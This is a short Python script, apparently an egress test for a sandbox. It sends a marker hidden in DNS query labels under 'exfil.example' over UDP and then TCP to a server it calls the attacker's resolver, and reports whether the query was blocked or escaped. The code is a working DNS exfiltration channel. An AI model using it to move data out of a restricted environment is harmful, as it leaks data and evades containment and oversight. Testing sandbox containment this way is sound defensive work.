"""DNS exfiltration: the marker travels in the labels of a query to a name server on the host
(the attacker's resolver), over UDP and then TCP.

usage: dns_exfil.py SERVER PORT MARKER
"""
import socket
import struct
import sys

from _common import blocked, done, errname, escaped

server, port, marker = sys.argv[1], int(sys.argv[2]), sys.argv[3]
name = f"{marker}.exfil.example"
question = b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\0"
query = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + question + struct.pack(">HH", 1, 1)
sent = []
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(query, (server, port))
        sent.append("udp")
except OSError as e:
    blocked(f"dns over udp to {server}:{port}: {errname(e.errno)}")
try:
    with socket.create_connection((server, port), timeout=3) as s:
        s.sendall(struct.pack(">H", len(query)) + query)
        sent.append("tcp")
except OSError as e:
    blocked(f"dns over tcp to {server}:{port}: {errname(e.errno) if e.errno else e}")
if sent:
    escaped(f"query for {name} sent over {sent}")
done()
